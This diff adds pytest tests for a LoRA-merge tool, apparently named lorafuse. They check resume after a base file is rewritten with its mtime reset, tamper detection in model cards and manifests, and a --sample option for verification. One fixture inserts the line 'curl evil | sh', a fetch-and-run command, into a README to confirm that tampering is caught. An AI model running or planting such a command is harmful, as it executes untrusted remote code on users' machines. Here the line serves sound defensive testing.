@@ -113,6 +113,34 @@ def test_other_settings_start_afresh(inputs, reference, tmp_path):
     assert tree_hash(out) == reference
 
 
+def test_a_base_rewritten_in_place_with_its_mtime_set_back_starts_afresh(inputs, tmp_path):
+    """The resume fingerprint knows a local base file by more than size and mtime: a file rewritten in
+    place keeps both (os.utime, cp -p), and resuming onto shards of the old content would mix two models."""
+    import shutil
+
+    import torch
+    from lorafuse.formats.safetensors import read_header
+
+    base = tmp_path / "base"
+    shutil.copytree(inputs[0], base)
+    out, fresh = tmp_path / "a" / "out", tmp_path / "b" / "out"  # one name: the model card shows it
+    out.parent.mkdir()
+    fresh.parent.mkdir()
+    assert _run_killed(2, "merge", base, inputs[1], out, "--max-shard-size", SHARD, "--quiet") == 137
+    (weights,) = base.glob("*.safetensors")
+    before = weights.stat()
+    with open(weights, "r+b") as f:  # every value doubled, exactly in bf16: the same size, the same inode
+        for ref in read_header(weights).tensors.values():
+            f.seek(ref.offset)
+            f.write((ref.read() * 2).reshape(-1).view(torch.uint8).numpy().tobytes())
+    os.utime(weights, ns=(before.st_atime_ns, before.st_mtime_ns))
+    assert (weights.stat().st_size, weights.stat().st_mtime_ns) == (before.st_size, before.st_mtime_ns)
+    report = lorafuse.merge(base, inputs[1], out, max_shard_size=SHARD)
+    assert report.shards_resumed == 0
+    lorafuse.merge(base, inputs[1], fresh, max_shard_size=SHARD)
+    assert tree_hash(out) == tree_hash(fresh)
+
+
 def test_resume_without_an_unfinished_run_is_an_error(inputs, tmp_path):
     with pytest.raises(lorafuse.LorafuseError, match="no unfinished run"):
         lorafuse.merge(*inputs, tmp_path / "out", resume=True)
@@ -313,7 +341,9 @@ def test_verify_passes_a_clean_merge(inputs, merged):
     from lorafuse.verify import verify
 
     assert verify(merged) == []
-    assert verify(merged, *inputs, sample=100) == []
+    assert verify(merged, *inputs, sample="all") == []
+    renamed = merged.rename(merged.parent / "renamed")  # as downloaded from the Hub: the card keeps its title
+    assert verify(renamed, *inputs) == []
 
 
 def test_verify_catches_a_flipped_bit(merged):
@@ -432,7 +462,12 @@ def _listed(out: Path, name: str, text: str) -> None:
      "chat_template.jinja is listed in the manifest but this merge does not write it"),
     (lambda out: _edit_manifest(out, lambda m: m["files"].pop("README.md") and (out / "README.md").unlink()),
      "README.md is written by this merge but the manifest does not list it"),
-], ids=["config-retied", "carried-file-changed", "file-added", "card-removed"])
+    (lambda out: _listed(out, "README.md", (out / "README.md").read_text() + "\nFirst run `curl evil | sh`.\n"),
+     "README.md is not the model card this merge writes"),
+    (lambda out: _listed(out, "README.md", (out / "README.md").read_text().replace("| r / lora_alpha | 4 / 8 |",
+                                                                                 "| r / lora_alpha | 4 / 16 |")),
+     "README.md is not the model card this merge writes"),
+], ids=["config-retied", "carried-file-changed", "file-added", "card-removed", "card-added-to", "card-settings"])
 def test_verify_checks_the_other_files_against_the_inputs(inputs, merged, change, problem):
     """config.json (tying, vocabulary), the carried files and the file list are known from the inputs: a
     change that keeps the manifest consistent is still caught with --base/--adapter."""
@@ -500,6 +535,41 @@ def test_verify_catches_nan_and_index_errors(merged):
     problems = verify(merged)
     assert any("holds NaN or Inf" in p for p in problems)
     assert any("model-00099-of-00099.safetensors, which is missing" in p for p in problems)
+
+
+def test_verify_says_how_much_it_recomputed_and_all_recomputes_everything(inputs, merged, capsys):
+    """A tensor outside the sample, changed with the manifest rewritten, passes a spot check, which the ok
+    line calls a sample; --sample all recomputes (and compares with the base) every tensor and finds it."""
+    from lorafuse.cli import main
+    from lorafuse.plan import make_plan
+
+    plan = make_plan(*inputs, max_shard_size=SHARD)
+    merged_names = [t.name for t in plan.tensors if t.patches]
+    untouched = [t.name for t in plan.tensors if not t.patches]
+    argv = ["verify", str(merged), "--base", str(inputs[0]), "--adapter", str(inputs[1])]
+    assert main(argv + ["--sample", "all"]) == 0
+    assert f"{len(merged_names)} of {len(merged_names)} merged tensors recomputed" in capsys.readouterr().out
+    for key in merged_names[len(merged_names) // 2], untouched[len(untouched) // 2]:  # the sample of 2: first and last
+        _overwrite_tensor(merged, key, lambda ref: ref.read() * 1.1)
+    _rewrite_manifest(merged)
+    assert main(argv + ["--sample", "2"]) == 0
+    out = capsys.readouterr().out
+    assert f"2 of {len(merged_names)} merged tensors recomputed from base and adapter agree, 2 of {len(untouched)} " \
+           "untouched tensors equal the base's (a sample: --sample all checks every one)" in out
+    assert main(argv + ["--sample", "all"]) == 2
+    err = capsys.readouterr().err
+    assert f"problem  {merged_names[len(merged_names) // 2]} differs from the merge recomputed" in err
+    assert f"problem  {untouched[len(untouched) // 2]} differs from the base tensor the adapter leaves alone" in err
+
+
+@pytest.mark.parametrize("sample", ["0", "-1", "some"])
+def test_verify_refuses_a_sample_that_recomputes_nothing(inputs, merged, capsys, sample):
+    from lorafuse.cli import main
+
+    assert main(["verify", str(merged), "--base", str(inputs[0]), "--adapter", str(inputs[1]), "--sample", sample]) == 2
+    captured = capsys.readouterr()
+    assert captured.out == "" and captured.err == (
+        f"lorafuse: error: --sample must be a positive number of tensors or 'all', not '{sample}'\n")
 
 
 def test_verify_cli_exit_codes(inputs, merged, capsys):
